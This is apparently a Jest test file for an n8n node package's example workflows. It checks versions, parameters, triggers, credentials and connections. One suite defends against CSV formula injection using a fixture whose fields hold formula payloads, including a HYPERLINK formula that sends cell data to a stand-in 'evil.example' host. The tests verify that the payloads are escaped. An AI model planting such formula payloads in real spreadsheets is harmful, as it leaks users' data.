/**
 * The example workflows, read as files (the e2e suite imports and runs them in
 * a real n8n): each uses the nodes' current versions with parameters those
 * versions show, the triggers are among them, scheduled reads take only what
 * changed, and every credential and webhook they name is the one the demo and
 * the e2e setup create. No example writes to a record the user did not pick, and
 * none that a trigger starts (a business moment, a change) needs code: n8n's
 * no-code nodes shape what it sends.
 */
import type {
	IDataObject,
	IExecuteFunctions,
	INode,
	INodeType,
	IVersionedNodeType,
} from 'n8n-workflow';
import { NodeHelpers } from 'n8n-workflow';

import { resources } from '../nodes/InspectionBusiness/actions/router';
import { InspectionBusiness } from '../nodes/InspectionBusiness/InspectionBusiness.node';
import { InspectionBusinessTrigger } from '../nodes/InspectionBusinessTrigger/InspectionBusinessTrigger.node';
import { InspectionBusinessWebhookTrigger } from '../nodes/InspectionBusinessWebhookTrigger/InspectionBusinessWebhookTrigger.node';
import { ENDPOINTS } from '../nodes/shared/endpoints';
import {
	loadExamples,
	SANDBOX_CREDENTIAL,
	SANDBOX_WEBHOOK_CREDENTIAL,
	WEBHOOK_EXAMPLE,
} from '../scripts/workflows';
import { withExecuteContext } from './helpers/n8n';

const PACKAGE = 'n8n-nodes-inspection-business';
const NODE_TYPES: Record<string, INodeType | IVersionedNodeType> = {
	[`${PACKAGE}.inspectionBusiness`]: new InspectionBusiness(),
	[`${PACKAGE}.inspectionBusinessTrigger`]: new InspectionBusinessTrigger(),
	[`${PACKAGE}.inspectionBusinessWebhookTrigger`]: new InspectionBusinessWebhookTrigger(),
};

/** The version a node added from the nodes panel gets, and that version's description. */
function current(type: INodeType | IVersionedNodeType) {
	if ('nodeVersions' in type) {
		const version = type.description.defaultVersion ?? type.currentVersion;
		return { version, description: type.nodeVersions[version].description };
	}
	const { version } = type.description;
	return {
		version: Array.isArray(version) ? Math.max(...version) : version,
		description: type.description,
	};
}

const examples = loadExamples();
const packageNodes = examples.flatMap((workflow) =>
	workflow.nodes
		.filter((node) => node.type in NODE_TYPES)
		.map((node) => ({ workflow: workflow.id, node: node as unknown as INode })),
);
/** A record picker left empty in the file, for the user to fill before the first run. */
const emptyPicker = (value: unknown) =>
	typeof value === 'object' &&
	value !== null &&
	(value as { __rl?: boolean }).__rl === true &&
	(value as { value?: unknown }).value === '';

/** The operations that change something in the account (any method but GET). */
const writes = ({ node }: { node: INode }) =>
	node.type === `${PACKAGE}.inspectionBusiness` &&
	ENDPOINTS[resources[String(node.parameters.resource)][String(node.parameters.operation)].endpoint]
		.method !== 'GET';

const starts = (type: string) =>
	examples.filter((workflow) => workflow.nodes.some((node) => node.type === `${PACKAGE}.${type}`));

test('there are eight examples, each with one of the package nodes', () => {
	expect(examples.map((workflow) => workflow.id)).toEqual([
		'IbExampleAcctExp',
		'IbExampleCrmHook1',
		'IbExampleCrmSync',
		'IbExampleTeamNote',
		'IbExamplePaidSign',
		'IbExamplePaidAcct',
		'IbExampleReportUp',
		'IbExampleReviewRq',
	]);
	for (const workflow of examples)
		expect(packageNodes.some((entry) => entry.workflow === workflow.id)).toBe(true);
});

test.each(packageNodes)('$workflow › $node.name uses the current version', ({ node }) => {
	const { version, description } = current(NODE_TYPES[node.type]);
	expect(node.typeVersion).toBe(version);
	// Every parameter it sets is one that version shows for its resource and operation…
	const shown = NodeHelpers.getNodeParameters(
		description.properties,
		node.parameters,
		true,
		false,
		node,
		description,
	);
	// n8n gives every polling node its Poll Times; the node's own description does not list them.
	const notShown = Object.keys(node.parameters).filter(
		(name) => !(name in (shown ?? {})) && !(name === 'pollTimes' && description.polling),
	);
	expect(notShown).toEqual([]);
	// …and n8n finds nothing missing or malformed in them (it would refuse to run the workflow),
	// except a record picker left empty on purpose: the user picks the record a write goes to.
	const pickers = Object.keys(node.parameters).filter((name) => emptyPicker(node.parameters[name]));
	const issues = NodeHelpers.getNodeParametersIssues(description.properties, node, description);
	expect(Object.keys(issues?.parameters ?? {})).toEqual(pickers);
	expect(Object.keys(issues ?? {}).filter((kind) => kind !== 'parameters')).toEqual([]);
});

test('an example that writes starts by hand, from a required record picker left empty, and its note says what it writes', () => {
	const writing = packageNodes.filter(writes);
	expect(
		writing.map(({ node }) => `${node.parameters.resource}.${node.parameters.operation}`),
	).toEqual(['attachment.upload']);
	for (const { workflow: id, node } of writing) {
		const workflow = examples.find((example) => example.id === id)!;
		const types = workflow.nodes.map((entry) => entry.type);
		expect(types).toContain('n8n-nodes-base.manualTrigger');
		expect(types.filter((type) => /[Tt]rigger$/.test(type))).toEqual([
			'n8n-nodes-base.manualTrigger',
		]);
		// The record comes from the node whose picker the user fills, and only from there.
		const picked = packageNodes.filter(
			(entry) => entry.workflow === id && Object.values(entry.node.parameters).some(emptyPicker),
		);
		expect(picked).toHaveLength(1);
		const pickedName = picked[0].node.name;
		const target = JSON.stringify(node.parameters.inspection_id ?? node.parameters.contact_id);
		expect(target).toContain(`$('${pickedName}')`);
		const required = current(NODE_TYPES[picked[0].node.type]).description.properties.filter(
			(property) => property.type === 'resourceLocator' && property.required,
		);
		expect(required.map((property) => property.name)).toContain(
			Object.keys(picked[0].node.parameters).find((name) =>
				emptyPicker(picked[0].node.parameters[name]),
			),
		);
		const note = workflow.nodes.find((entry) => entry.type === 'n8n-nodes-base.stickyNote');
		const content = String((note?.parameters as { content?: string }).content);
		expect(content).toMatch(/writes to the account/);
		expect(content).toContain(pickedName);
	}
});

test('four examples start with the polling trigger (three on business moments), one with the webhook trigger', () => {
	expect(starts('inspectionBusinessTrigger').map((workflow) => workflow.id)).toEqual([
		'IbExampleTeamNote',
		'IbExamplePaidSign',
		'IbExamplePaidAcct',
		'IbExampleReviewRq',
	]);
	expect(starts('inspectionBusinessWebhookTrigger').map((workflow) => workflow.id)).toEqual([
		WEBHOOK_EXAMPLE.id,
	]);
	const webhook = starts('inspectionBusinessWebhookTrigger')[0].nodes.find(
		(node) => node.type === `${PACKAGE}.inspectionBusinessWebhookTrigger`,
	);
	expect(webhook?.webhookId).toBe(WEBHOOK_EXAMPLE.webhookId);
	expect((webhook?.parameters as { headerName: string }).headerName).toBe(
		WEBHOOK_EXAMPLE.secretHeader,
	);
});

test('no example a trigger starts has a Code node: Edit Fields, Filter and Date & Time shape it', () => {
	const triggered = [
		...starts('inspectionBusinessTrigger'),
		...starts('inspectionBusinessWebhookTrigger'),
	];
	expect(triggered).toHaveLength(5);
	const shaping = triggered.map((workflow) => ({
		workflow: workflow.id,
		code: workflow.nodes.filter((node) => node.type === 'n8n-nodes-base.code').map((n) => n.name),
	}));
	expect(shaping).toEqual(triggered.map((workflow) => ({ workflow: workflow.id, code: [] })));
	const types = new Set(triggered.flatMap((workflow) => workflow.nodes.map((node) => node.type)));
	expect([...types].filter((type) => !type.startsWith(`${PACKAGE}.`)).sort()).toEqual([
		'n8n-nodes-base.dateTime',
		'n8n-nodes-base.filter',
		'n8n-nodes-base.noOp',
		'n8n-nodes-base.set',
		'n8n-nodes-base.stickyNote',
	]);
});

test('a scheduled Get Many with Return All reads only what changed since the last run', () => {
	const returnAll = packageNodes.filter(
		({ node }) => node.parameters.operation === 'getAll' && node.parameters.returnAll === true,
	);
	expect(returnAll.map(({ workflow }) => workflow).sort()).toEqual([
		'IbExampleAcctExp',
		'IbExampleCrmSync',
	]);
	for (const { node } of returnAll)
		expect((node.parameters.filters as { updated_since?: string }).updated_since).toMatch(
			/^=\{\{ \$json\.since \}\}$/,
		);
});

test('every credential an example names is one the demo and the e2e setup create', () => {
	const known = [
		`inspectionBusinessApi:${SANDBOX_CREDENTIAL.id}:${SANDBOX_CREDENTIAL.name}`,
		`inspectionBusinessWebhookApi:${SANDBOX_WEBHOOK_CREDENTIAL.id}:${SANDBOX_WEBHOOK_CREDENTIAL.name}`,
	];
	const named = examples.flatMap((workflow) =>
		workflow.nodes.flatMap((node) =>
			Object.entries((node.credentials ?? {}) as Record<string, { id: string; name: string }>).map(
				([type, { id, name }]) => `${type}:${id}:${name}`,
			),
		),
	);
	expect(named.length).toBeGreaterThan(5);
	expect(named.filter((credential) => !known.includes(credential))).toEqual([]);
});

test('every connection joins two nodes of its workflow', () => {
	for (const workflow of examples) {
		const names = new Set(workflow.nodes.map((node) => node.name));
		const connections = workflow.connections as Record<
			string,
			{ main: Array<Array<{ node: string }>> }
		>;
		for (const [from, { main }] of Object.entries(connections)) {
			expect(names).toContain(from);
			for (const target of main.flat()) expect(names).toContain(target.node);
		}
	}
});

/**
 * Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, per
 * OWASP's CSV injection guidance, a tab or a carriage return) as a formula, so a client named
 * `=HYPERLINK(…)` would become a link in the accountant's sheet. Every example that writes rows
 * to a CSV file or a sheet passes them through one Edit Fields node that writes such text with a
 * leading `'`, which the spreadsheet shows as text. Numbers stay numbers.
 */
describe('rows written to a CSV file or a sheet', () => {
	const GUARD = 'Safe spreadsheet cells';
	const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
	/** Each example that writes rows, the node that builds a row, and the one that writes it. */
	const ROW_WRITERS = [
		{ id: 'IbExampleAcctExp', row: 'Spreadsheet row', sink: 'CSV file' },
		{
			id: 'IbExamplePaidAcct',
			row: 'Accounting row',
			sink: 'Add or update the row in your books (replace me)',
		},
	];
	const workflow = (id: string) => examples.find((example) => example.id === id)!;
	const node = (id: string, name: string) =>
		workflow(id).nodes.find((candidate) => candidate.name === name)!;
	const next = (id: string, name: string) =>
		(workflow(id).connections as Record<string, { main: Array<Array<{ node: string }>> }>)[
			name
		]?.main
			.flat()
			.map((target) => target.node);

	it('every example that writes a CSV file or a row for a sheet passes its rows through the guard', () => {
		const spreadsheetFile = (candidate: { type: string; parameters?: unknown }) =>
			candidate.type === 'n8n-nodes-base.convertToFile' &&
			['csv', 'xlsx', 'xls', 'ods'].includes(
				String((candidate.parameters as { operation?: string }).operation),
			);
		const csv = examples.filter((example) => example.nodes.some(spreadsheetFile));
		expect(csv.map((example) => example.id)).toEqual(['IbExampleAcctExp']);
		for (const { id, row, sink } of ROW_WRITERS) {
			expect(next(id, row)).toEqual([GUARD]);
			expect(next(id, GUARD)).toEqual([sink]);
			expect(node(id, GUARD).parameters).toEqual(node('IbExampleAcctExp', GUARD).parameters);
		}
	});

	/** A paid inspection whose client, address, services and statuses are written to run as formulas. */
	const hostile = {
		id: '3f1c2b9e-8d47-4c1a-9e2f-6b5a4d3c2b1a',
		status: 'confirmed',
		deleted: false,
		scheduled_for: '2026-05-01T14:00:00Z',
		updated_at: '2026-05-02T09:30:00Z',
		address: { full: '@SUM(A1:A9)' },
		contacts: [
			{
				role: 'Customer',
				first_name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
				last_name: 'Doe',
				email: '+cmd@example.com',
			},
		],
		services: [{ name: '-2+3' }],
		add_ons: [{ name: 'Radon Test' }],
		price: {
			quote: 500,
			amount_paid: -50,
			amount_due: 0,
			payment_status: '\tpaid',
			paid: true,
			pay_at_close_status: '\rnone',
		},
	};

	/** A row as the example builds it, then as its guard writes it, each by n8n's expression engine. */
	async function rowsOf(id: string, row: string, input: IDataObject) {
		const { assignments } = node(id, row).parameters as unknown as {
			assignments: { assignments: Array<{ name: string; value: unknown; type: string }> };
		};
		const built = await evaluated(input, async function (): Promise<IDataObject> {
			return Object.fromEntries(
				assignments.assignments.map(({ name, value, type }) => {
					const cell =
						typeof value === 'string' ? this.evaluateExpression(unmarked(value), 0) : value;
					return [name, (type === 'number' ? Number(cell) : cell) as IDataObject[string]];
				}),
			);
		});
		const { jsonOutput } = node(id, GUARD).parameters as unknown as { jsonOutput: string };
		const written = await evaluated(built, async function () {
			return this.evaluateExpression(unmarked(jsonOutput), 0) as IDataObject;
		});
		return { built, written };
	}

	/** A parameter's text without the `=` that marks an expression (evaluateExpression adds it). */
	const unmarked = (value: string) => (value.startsWith('=') ? value.slice(1) : value);

	async function evaluated<T>(item: IDataObject, fn: (this: IExecuteFunctions) => Promise<T>) {
		const credentials = { apiKey: 'unused', baseUrl: 'https://api.example.test' };
		const { value, error } = await withExecuteContext(fn, { credentials, items: [{ json: item }] });
		if (error) throw error;
		return value as T;
	}

	it.each([
		{ id: 'IbExampleAcctExp', row: 'Spreadsheet row', input: hostile },
		{
			id: 'IbExamplePaidAcct',
			row: 'Accounting row',
			input: { record: hostile, paid_on: '2026-05-02' },
		},
	])('$id: a text that would run as a formula is written as text', async ({ id, row, input }) => {
		const { built, written } = await rowsOf(id, row, input);
		expect(String(built.Client)).toMatch(/^=HYPERLINK/);
		expect(Object.keys(written)).toEqual(Object.keys(built));
		const risky = Object.entries(built).filter(
			([, cell]) => typeof cell === 'string' && FORMULA_STARTS.includes(cell.charAt(0)),
		);
		expect(risky.length).toBeGreaterThanOrEqual(4);
		for (const [column, cell] of Object.entries(built))
			expect([column, written[column]]).toEqual([
				column,
				risky.some(([name]) => name === column) ? `'${String(cell)}` : cell,
			]);
		expect(written['Amount Paid']).toBe(-50);
	});
});
